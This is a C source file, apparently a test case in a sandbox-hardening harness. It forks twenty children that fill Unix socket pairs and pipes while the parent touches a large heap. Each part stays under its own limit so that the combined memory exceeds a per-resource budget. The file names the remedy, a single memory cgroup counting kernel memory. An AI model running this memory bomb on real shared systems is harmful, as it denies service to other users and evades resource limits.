// SPDX-License-Identifier: MIT
/*
 * bit-of-each.c - a memory bomb of parts that nobody minds.
 *
 * Goal: more memory than the budget.
 * Means: a budget for resident memory, a number of socket pairs, a limit on pipes: each is kept.
 * Twenty children hold 70 MiB in pairs of sockets and 32 MiB in pipes, their parent has 240 MiB in
 * its heap, and who has a limit for each and none for the sum lets 340 MiB through.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHILDREN = 20, PAIRS = 9, PIPES = 25, HEAP = 240 << 20, PAGE = 4096 };

/* Fill what this end leads to, as far as it goes. */
static void fill(int end)
{
	static char letter[32768];

	fcntl(end, F_SETFL, O_NONBLOCK);
	while (write(end, letter, sizeof(letter)) > 0)
		continue;
}

/* Say that all is full, or what refused it, as errno. */
static _Noreturn void hoard(int full)
{
	int pair[2], pairs = 0, pipes = 0;
	unsigned char refused;

	for (; pairs < PAIRS && !socketpair(AF_UNIX, SOCK_STREAM, 0, pair); pairs++) {
		fill(pair[0]);
		fill(pair[1]);
	}
	for (; pairs == PAIRS && pipes < PIPES && !pipe(pair); pipes++) {
		fill(pair[1]);
		close(pair[1]);
	}
	refused = pipes < PIPES ? (unsigned char)errno : 0;
	_exit(write(full, &refused, 1) == 1 && sleep(5));
}

static enum claim run(const struct brief *b)
{
	volatile char *heap; /* volatile: nobody reads it */
	pid_t child[CHILDREN];
	unsigned char refused;
	enum claim claim;
	int full[2], n = 0;

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	heap = malloc(HEAP);
	if (!heap)
		return denied("malloc");
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0)
			hoard(full[1]);
	claim = n < CHILDREN ? denied("fork") : CLAIM_DONE;
	close(full[1]); /* now its end comes with the last child's */
	for (int i = 0; claim == CLAIM_DONE && i < n && read(full[0], &refused, 1) == 1; i++) {
		errno = refused;
		claim = refused ? denied("a socketpair or a pipe") : CLAIM_DONE;
	}
	for (size_t at = 0; claim == CLAIM_DONE && at < HEAP; at += PAGE)
		heap[at] = 'x';
	if (claim == CLAIM_DONE)
		claim = hold();
	while (n-- > 0)
		kill(child[n], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more memory than the budget, in three places",
	.means = "pairs of sockets, pipes and a heap, each within its own limit",
	.oracle = "usage:memory",
	.threshold = 290ull << 20, /* a watch of the sum ends it at 250, one of the parts at 322 */
	.attack_id = "T1499.001, CWE-770",
	.remedy = "one budget for all of it; a memory cgroup with kernel memory",
	.refs = (const char *const[]){ "pipe(7): pipe-user-pages-soft", "unix(7)", NULL },
	.run = run,
};
